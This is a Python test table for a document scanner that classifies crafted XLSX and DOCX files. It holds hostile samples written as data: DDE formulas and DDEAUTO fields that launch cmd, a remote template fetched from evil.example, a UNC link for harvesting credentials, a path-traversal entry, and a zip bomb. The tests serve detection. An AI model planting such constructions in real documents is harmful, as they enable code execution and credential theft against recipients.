"""Workbooks and documents and what each is judged to be."""

import zipfile

from tests.kernel.files import corpus as c

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
FIELD = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{}</w:p>'
INSTRUCTION = "<w:r><w:instrText>{}</w:instrText></w:r>"
SHEET = "xl/worksheets/sheet1.xml"

CASES = [
    ("xlsx", "xlsx", c.workbook, XLSX),
    ("xlsx, macro", "xlsx", c.macro_workbook, "office_macro"),
    (
        "xlsx, macro sheet",
        "xlsx",
        lambda: c.repacked(c.workbook(), add={"xl/macrosheets/sheet1.xml": "<a/>"}),
        "office_macro",
    ),
    (
        "xlsx, project under another name",
        "xlsx",
        lambda: c.repacked(c.workbook(), add={"xl/theme/notes.bin": b"harmless?"}),
        "office_embedded",
    ),
    (
        "xlsx, activeX",
        "xlsx",
        lambda: c.repacked(c.workbook(), add={"xl/activeX/activeX1.xml": "<a/>"}),
        "office_embedded",
    ),
    (
        "xlsx, embedded document",
        "xlsx",
        lambda: c.repacked(c.workbook(), add={"xl/embeddings/d.docx": c.document()}),
        "office_embedded",
    ),
    (
        "xlsx, archive as picture",
        "xlsx",
        lambda: c.repacked(c.workbook(), add={"xl/media/image1.png": c.archive({"a": "b"})}),
        "office_embedded",
    ),
    (
        "xlsx, program",
        "xlsx",
        lambda: c.repacked(c.workbook(), add={"xl/run.exe": b"MZ"}),
        "office_embedded",
    ),
    (
        "xlsx, other book (DDE lies there too)",
        "xlsx",
        lambda: c.repacked(c.workbook(), add={"xl/externalLinks/externalLink1.xml": "<a/>"}),
        "office_external",
    ),
    (
        "xlsx, data connection",
        "xlsx",
        lambda: c.repacked(c.workbook(), add={"xl/connections.xml": "<a/>"}),
        "office_external",
    ),
    (
        "xlsx, DDE formula",
        "xlsx",
        lambda: c.repacked(c.workbook(), add={SHEET: "<s><f>cmd|'/C calc'!A0</f></s>"}),
        "office_external",
    ),
    (
        "xlsx, DDE formula, disguised",
        "xlsx",
        lambda: c.repacked(
            c.workbook(), add={SHEET: "<x:s xmlns:x='u'><x:f>1+cmd&#124;'/C calc'!A0</x:f></x:s>"}
        ),
        "office_external",
    ),
    (
        "xlsx, external picture",
        "xlsx",
        lambda: c.repacked(
            c.workbook(),
            add={"xl/drawings/_rels/drawing1.xml.rels": c.relation("image", "https://a.jp/i.png")},
        ),
        "office_external",
    ),
    (
        "xlsx, link to a server that asks for credentials",
        "xlsx",
        lambda: c.repacked(
            c.workbook(),
            add={
                "xl/worksheets/_rels/sheet1.xml.rels": c.relation(
                    "hyperlink", "file:///\\\\evil.example\\share"
                )
            },
        ),
        "office_external",
    ),
    (
        "xlsx, link to a local file",
        "xlsx",
        lambda: c.repacked(
            c.workbook(),
            add={
                "xl/worksheets/_rels/sheet1.xml.rels": c.relation(
                    "hyperlink", "file:///C:\\data\\a.xlsx"
                )
            },
        ),
        XLSX,
    ),
    (
        "xlsx, entities",
        "xlsx",
        lambda: c.repacked(c.workbook(), add={SHEET: '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
        "office_damaged",
    ),
    (
        "xlsx, utf-16",
        "xlsx",
        lambda: c.repacked(c.workbook(), add={SHEET: "<a/>".encode("utf-16")}),
        "office_damaged",
    ),
    (
        "xlsx, climbing name",
        "xlsx",
        lambda: c.repacked(c.workbook(), add={"../../evil.xml": "<a/>"}),
        "office_damaged",
    ),
    (
        "xlsx, same name twice",
        "xlsx",
        lambda: c.repacked(c.workbook(), add={"xl/Workbook.xml": "<a/>"}),
        "office_damaged",
    ),
    ("xlsx, bomb", "xlsx", c.workbook_bomb, "office_bomb"),
    (
        "xlsx, 2,001 parts",
        "xlsx",
        lambda: c.archive({f"xl/{n}.xml": "<a/>" for n in range(2001)}),
        "office_bomb",
    ),
    ("xlsx, prefix", "xlsx", lambda: b"MZ" + c.workbook(), "mismatch"),
    ("xlsx, trailing data", "xlsx", lambda: c.workbook() + b"MZ", "trailing_data"),
    ("xlsx, hidden archive at the end", "xlsx", c.zip_with_hidden_entry, "polyglot"),
    ("xlsx, hidden archive inside", "xlsx", lambda: c.zip_with_hidden_entry(2), "polyglot"),
    (
        "xlsx, hidden archive at the start",
        "xlsx",
        lambda: c.zip_with_hidden_entry(0),
        "polyglot",
    ),
    ("xlsx, cut off", "xlsx", lambda: c.workbook()[:-100], "office_damaged"),
    ("xlsx, password", "xlsx", c.encrypted_office, "office_encrypted"),
    ("xlsx, old format", "xlsx", lambda: c.encrypted_office()[:512], "office_old"),
    ("xlsx, truly docx", "xlsx", c.document, "mismatch"),
    ("xlsx, any zip", "xlsx", lambda: c.archive({"a.xml": "<a/>"}), "office_damaged"),
    (
        "xlsx, exotic compression",
        "xlsx",
        lambda: c.archive({"[Content_Types].xml": "<a/>"}, zipfile.ZIP_BZIP2),
        "office_damaged",
    ),
    ("docx", "docx", c.document, DOCX),
    (
        "docx, field DDEAUTO",
        "docx",
        lambda: c.document(FIELD.format(INSTRUCTION.format("DDEAUTO c:\\cmd.exe"))),
        "office_external",
    ),
    (
        "docx, field in pieces",
        "docx",
        lambda: c.document(
            FIELD.format(INSTRUCTION.format("DD") + INSTRUCTION.format("EAUTO cmd"))
        ),
        "office_external",
    ),
    (
        "docx, simple field",
        "docx",
        lambda: c.document('<w:fldSimple w:instr=" DDE cmd "/>'),
        "office_external",
    ),
    (
        "docx, page number field",
        "docx",
        lambda: c.document(FIELD.format(INSTRUCTION.format("PAGE"))),
        DOCX,
    ),
    (
        "docx, remote template",
        "docx",
        lambda: c.document(
            extra={
                "word/_rels/settings.xml.rels": c.relation(
                    "attachedTemplate", "https://evil.example/t.dotm"
                )
            }
        ),
        "office_external",
    ),
    (
        "docx, html part",
        "docx",
        lambda: c.document(extra={"word/afchunk.mht": "<html/>"}),
        "office_embedded",
    ),
    (
        "docx, eicar as attachment",
        "docx",
        lambda: c.document(extra={"word/embeddings/eicar.com": c.EICAR}),
        "office_embedded",
    ),
]
